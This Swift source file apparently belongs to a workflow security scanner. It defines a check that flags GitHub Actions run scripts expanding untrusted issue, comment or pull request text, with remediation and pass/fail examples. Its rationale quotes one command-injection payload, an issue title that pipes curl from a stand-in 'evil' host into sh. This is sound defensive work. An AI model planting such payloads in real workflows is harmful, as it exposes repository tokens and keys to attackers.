import GooseAuditCore
import StructuredText

/// Expressions an outsider controls, pasted into a shell script.
extension WorkflowModule {
    /// Context fields whose text comes from whoever opened the issue, comment or pull request.
    static let untrustedContexts = [
        "github.event.issue.title", "github.event.issue.body", "github.event.pull_request.title", "github.event.pull_request.body",
        "github.event.pull_request.head.ref", "github.event.pull_request.head.label", "github.event.comment.body",
        "github.event.review.body", "github.event.review_comment.body", "github.event.discussion.title", "github.event.discussion.body",
        "github.event.head_commit.message", "github.event.head_commit.author.name", "github.event.head_commit.author.email",
        "github.event.commits", "github.event.pages", "github.event.workflow_run.head_branch", "github.event.workflow_run.head_commit",
        "github.head_ref",
    ]

    static let untrustedInputInRun = WorkflowCheck(
        descriptor: CheckDescriptor(
            id: "workflow_untrusted_input_in_run", title: "Untrusted event text expanded into a run script",
            summary:
                "Reports `run:` scripts that expand `${{ github.event.issue.title }}`, comment or pull request bodies, branch names and similar fields an outsider controls.",
            rationale: """
                GitHub pastes `${{ … }}` expressions into the script before the shell sees it, so an issue title such \
                as `"; curl evil | sh; #` becomes part of the command. Workflows that hand issues or comments to an \
                agent (goose issue solvers, PR reviewers) are the classic target, and they usually hold a write token \
                and provider keys.
                """,
            remediation: "Pass the value through `env:` (`TITLE: ${{ github.event.issue.title }}`) and use `\"$TITLE\"` in the script.",
            severity: .high, category: .workflow, kind: .configuration, artifactKinds: kinds,
            references: ["CWE-78", "CWE-94", hardening],
            examples: [
                CheckExample(
                    "issue title in a script", .fail, role: .path,
                    files: [
                        workflow(
                            "on: issues\npermissions:\n  contents: read\njobs:\n  triage:\n    runs-on: x\n    steps:\n      - run: |\n          goose run --text \"Triage: ${{ github.event.issue.title }}\"\n"
                        )
                    ], expected: [".github/workflows/release.yml:9#jobs.triage.steps[0].run"]),
                CheckExample(
                    "title through env", .pass, role: .path,
                    files: [
                        workflow(
                            "on: issues\npermissions:\n  contents: read\njobs:\n  triage:\n    runs-on: x\n    steps:\n      - run: goose run --text \"Triage: $TITLE\"\n        env:\n          TITLE: ${{ github.event.issue.title }}\n"
                        )
                    ]),
            ]),
        analyze: { workflow, descriptor in
            workflow.steps.flatMap { step -> [Finding] in
                guard let run = step.node["run"], let script = run.scriptText else { return [] }
                return script.split(separator: "\n").compactMap { line in
                    let compact = line.lowercased().filter { !$0.isWhitespace }
                    guard compact.contains("${{"), let field = untrustedContexts.first(where: { compact.contains($0) }) else { return nil }
                    return workflow.finding(
                        descriptor, "`\(field)` is pasted into the script of job `\(step.job.name)`; its author can inject commands",
                        at: run, path: step.path.appending(.key("run")),
                        line: workflow.line(of: String(line.trimmingPrefix(while: \.isWhitespace)), from: run), evidence: field)
                }
            }
        })
}
